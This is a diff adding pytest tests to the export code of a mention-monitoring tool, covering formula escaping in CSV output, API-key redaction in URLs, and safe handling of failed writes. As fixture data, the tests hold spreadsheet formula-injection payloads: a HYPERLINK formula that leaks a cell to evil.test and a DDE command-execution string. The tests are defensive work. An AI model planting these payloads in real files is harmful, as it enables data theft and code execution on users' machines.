@@ -10,6 +10,7 @@ import pytest
 from alerts.export import PSEUDONYM_KEY_ENV, ExportError, ExportFormat, Pseudonymiser, export_window
 from classifiers.staff.directory import load_staff_directory
 from classifiers.staff.linking import StaffDetector
+from storage import exports
 from storage.cases import CaseBook
 from storage.store import Store
 from tests.support.staff import staff_detector
@@ -215,3 +216,68 @@ def test_an_existing_file_is_not_replaced_unless_asked(store: Store, tmp_path: P
         store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY, overwrite=True
     )
     assert path.read_text(encoding="utf-8").startswith("platform,")
+
+
+def land_more(store: Store, *mentions: Mention) -> None:
+    store.land(
+        run_id="run-2",
+        source="x-search",
+        source_type="x",
+        mentions=list(mentions),
+        accounts=[],
+        classifications=[],
+        cursor=None,
+    )
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_in_csv_only(
+    store: Store, tmp_path: Path
+) -> None:
+    land_more(
+        store,
+        post("201", '=HYPERLINK("http://evil.test/?leak="&A1,"Kingsmere General results")', "mallory"),
+        post("202", "-5 stars for Kingsmere General", "critic", title="+1 to that"),
+        post("203", "@KingsmereNHS thank you", "fan"),
+        post("204", "\tcmd|' /C calc'!A0", "tabby", title="\rreturn"),
+        post("205", "A fine day at Kingsmere General = good", "calm"),
+    )
+    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv")}
+
+    assert rows["201"]["text"] == "'" + '=HYPERLINK("http://evil.test/?leak="&A1,"Kingsmere General results")'
+    assert (rows["202"]["text"], rows["202"]["title"]) == ("'-5 stars for Kingsmere General", "'+1 to that")
+    assert rows["203"]["text"] == "'@KingsmereNHS thank you"
+    assert rows["204"]["text"].startswith("'\t")
+    assert rows["205"]["text"] == "A fine day at Kingsmere General = good"
+
+    path = tmp_path / "export.parquet"
+    export_window(store, WINDOW, path, export_format=ExportFormat.PARQUET, exported_by="priya", pseudonym_key=KEY)
+    by_id = {row["native_id"]: row for row in pq.read_table(path).to_pylist()}
+    assert by_id["202"]["text"] == "-5 stars for Kingsmere General", "Parquet is not opened by spreadsheets"
+
+
+def test_a_link_stored_with_credentials_before_redaction_is_exported_without_them(store: Store, tmp_path: Path) -> None:
+    store.connection.execute(
+        "UPDATE collected_mentions SET url = 'https://news.test/story?id=7&apikey=XYZ123' WHERE native_id = '104'"
+    )
+    rows = {row["native_id"]: row for row in export_csv(store, tmp_path / "export.csv")}
+    assert rows["104"]["url"] == "https://news.test/story?id=7&apikey=…"
+
+
+def test_a_failed_write_leaves_the_old_file_and_no_partial_one(
+    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = tmp_path / "export.csv"
+    path.write_text("last week's export", encoding="utf-8")
+
+    def disk_full(store: Store, table: object, target: Path, file_format: str) -> None:
+        target.write_text("platform,source,half a ro", encoding="utf-8")
+        raise exports.CopyError("No space left on device")
+
+    monkeypatch.setattr(exports, "copy_to_file", disk_full)
+    with pytest.raises(ExportError, match=r"export.csv: cannot write the export \(No space left on device\)"):
+        export_window(
+            store, WINDOW, path, export_format=ExportFormat.CSV, exported_by="priya", pseudonym_key=KEY, overwrite=True
+        )
+    assert path.read_text(encoding="utf-8") == "last week's export"
+    assert [entry.name for entry in tmp_path.iterdir() if "export" in entry.name] == ["export.csv"]
+    assert store.fetch_dicts("SELECT count(*) AS n FROM exports") == [{"n": 0}]
